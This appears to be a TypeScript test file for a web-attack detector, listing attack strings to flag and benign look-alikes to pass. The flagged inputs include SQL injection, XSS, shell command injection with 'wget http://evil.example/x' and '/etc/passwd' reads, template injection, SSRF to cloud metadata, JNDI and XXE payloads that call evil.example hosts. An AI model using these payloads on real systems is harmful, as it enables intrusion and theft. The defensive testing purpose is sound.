import { type Cases, form, get, header, json, post, query, xml } from '../../testing.ts';

export const detectorsCases: Readonly<Record<string, Cases>> = {
  GH0101: {
    hits: [
      query("' UNION SELECT 'abcdef',NULL,NULL--"),
      query('SELECT sleep (10 +6)'),
      query("copy (select '') to program 'id'"),
      query("' or 1 limit 1 --"),
      query("' and 1 in (select var from temp)--"),
      query("select current_setting('is_superuser')"),
      query("1' aNd cAsT((sElEcT version()) aS nUmErIc)='1"),
      get("/items/1'%20or%20'1'='1/reviews"),
      get('/items/1%20union%20select%201,2,3'),
      header('referer', "https://www.example.com/?id=1'%20or%20'1'='1"),
      header('user-agent', "Mozilla/5.0' or sleep(5)-- "),
      form({ id: "1' or '1'='1" }),
      json({ items: [{ note: "x' union select 1,2--" }] }),
      xml('<order><item id="1&#39; or &#39;1&#39;=&#39;1">x</item></order>'),
    ],
    misses: [
      query("Conan O'Brien or Flann O'Brien"),
      query('select a date from the list'),
      query("5' or 6' tall"),
      form({ text: 'Update 15 -- please select a date from the list' }),
      json({ jql: 'project = ABC and status = "Done" order by created' }),
    ],
  },
  GH0102: {
    hits: [
      query('<a onactivate=alert(1) tabindex=1>'),
      query(String.raw`window['\x61lert'](1)`),
      query('top[/al/.source+/ert/.source](1)'),
      query("self['ale'+'rt'](document.cookie)"),
      query('<embed src=//evil.example/x.swf>'),
      header('referer', 'https://www.example.com/?q=<script>alert(1)</script>'),
      header('referer', 'javascript:alert(1)'),
      form('&#60;script&#62;alert(1)&#60;/script&#62;'),
      json({ a: '\uff1cscript\uff1ealert(1)' }),
      query(Buffer.from('<script>alert(1)</script>').toString('base64')),
      xml('<note>&#60;script&#62;alert(1)&#60;/script&#62;</note>'),
    ],
    misses: [
      form('<p>Use <b>bold</b> and <a href="https://example.com/">links</a></p>'),
      form('<p>Write &lt;script&gt; to load a script.</p>'),
      query('JavaScript: The Good Parts'),
      query('javascript:void(0)'),
      query("alert('hello') not working"),
      query('a < b and b > c'),
    ],
  },
  GH0103: {
    hits: [
      query('|| whoami'),
      query('a || whoami'),
      query(';echo A$((11+6))$(echo B)C'),
      query('$u/bin$u/cat$u /etc$u/passwd$u'),
      query('`id`'),
      form('a; echo 1; ping -c 3 127.0.0.1'),
      form('x|cat /etc/passwd'),
      query("c'a't /etc/passwd"),
      query(';{cat,/etc/passwd}'),
      form('() { :; }; /bin/bash -c "id"'),
      get('/status/;wget%20http:%2F%2Fevil.example%2Fx'),
    ],
    misses: [
      json({ text: 'dog food; cat food; and toys' }),
      form('Tom & Jerry; who is who?'),
      query('name|id|email'),
      form('| id | name |\n|---|---|\n| 1 | x |'),
      form('Run `npm install` and then `ls -la` to see it.'),
    ],
  },
  GH0104: {
    hits: [
      form({ file: '../../../../etc/passwd' }),
      query(String.raw`..\..\..\windows\win.ini`),
      get('/?file=..%c0%qf..%c0%qf..%c0%qfboot.ini'),
      query('0x2e0x2e/0x2e0x2e/0x2e0x2e/etc/passwd'),
      get('/?file=..%uEFC8..%uEFC8..%uEFC8etc/passwd'),
      get('/static?/WEB-INF/web.xml'),
      json({ path: '....//....//....//etc/hosts' }),
      query('php://filter/convert.base64-encode/resource=index'),
    ],
    misses: [
      json({ import: '../../lib/format.js' }),
      form('See ../README.md for the details, or ../../docs.'),
      query('/images/logo.png'),
      form('edit /etc/hosts and restart the service'),
    ],
  },
  GH0105: {
    hits: [
      query('{{7*7}}'),
      query("{{config.__class__.__init__.__globals__['os'].popen('id').read()}}"),
      json({ expression: "T(java.lang.Runtime).getRuntime().exec('id')" }),
      json({ script: "require('child_process').exec('id')" }),
      json({ lua: "os.execute('id')" }),
      query('\\u0024{7*7}'),
      get('/?__proto__[isAdmin]=1'),
    ],
    misses: [
      form('Dear {{first_name}}, your order {{order.number}} is on its way.'),
      json({ template: 'Total: ${price}' }),
      query('c++ {x}'),
    ],
  },
  GH0106: {
    hits: [
      query("' || '1'=='1"),
      get('/login?user=admin&password[$ne]=x'),
      json({ username: { $ne: null }, password: { $ne: null } }),
      query("'; return true; var x='"),
    ],
    misses: [json({ price: { $lt: 20 } }), query('a || b && c')],
  },
  GH0107: {
    hits: [query('*)(uid=*))(|(uid=*'), form({ user: 'admin)(&)' }), query('x)(objectClass=*')],
    misses: [query('f(x)(y)'), form('(see below) (and above)')],
  },
  GH0108: {
    hits: [
      query('http://169.254.169.254/latest/meta-data/', 'url'),
      query('http://2130706433/', 'url'),
      query('gopher://127.0.0.1:6379/_FLUSHALL', 'url'),
    ],
    misses: [
      query('http://localhost:3000/callback', 'redirect_uri'),
      query('https://app.example.com/cb?state=1;2', 'redirect_uri'),
    ],
  },
  GH0109: {
    hits: [
      query('rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ'),
      header('cookie', 'data=O:8:"stdClass":1:{s:1:"a";i:1;}'),
      json({ '@type': 'com.sun.rowset.JdbcRowSetImpl', dataSourceName: 'ldap://evil.example/a' }),
    ],
    misses: [header('cookie', 'data=a:1:{s:1:"a";i:1;}'), json({ '@type': 'Person', name: 'A' })],
  },
  GH0110: {
    hits: [
      xml('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'),
      query('<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]>'),
    ],
    misses: [
      xml('<?xml version="1.0"?><a>x</a>'),
      post('/p', 'text/plain', '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">'),
    ],
  },
  GH0111: {
    hits: [form('x\r\nSet-Cookie: a=b'), form({ email: 'a@example.com\r\nBcc: b@example.com' }), query('x%0d%0aLocation:%20http://evil.example/')],
    misses: [form('Hello,\r\nLocation: main hall'), form('one\r\ntwo: three')],
  },
  GH0201: { hits: [query('select name, price from products')], misses: [query("' or '1'='1"), query('shoes')] },
  GH0202: {
    hits: [query("alert('hello') not working")],
    misses: [query('<script>alert(1)</script>'), query('shoes')],
  },
  GH0203: { hits: [query('name|id|email')], misses: [query(';id'), query('shoes')] },
  GH0211: { hits: [form('Hello all,\r\nContent-Type: text')], misses: [form('x\r\nSet-Cookie: a=b'), query('shoes')] },
  GH0204: { hits: [query('../../reports')], misses: [query('../../../../etc/passwd'), query('shoes')] },
  GH0205: {
    hits: [form('Python has no private fields: obj.__class__.__mro__[1] shows all of the classes behind it.')],
    misses: [query('{{7*7}}'), query('shoes')],
  },
  GH0206: { hits: [get('/api/items?price[$gt]=10')], misses: [query("' || '1'=='1"), query('shoes')] },
  GH0208: {
    hits: [query('http://localhost:3000/callback', 'redirect_uri')],
    misses: [query('http://169.254.169.254/', 'url'), query('https://example.com/')],
  },
};
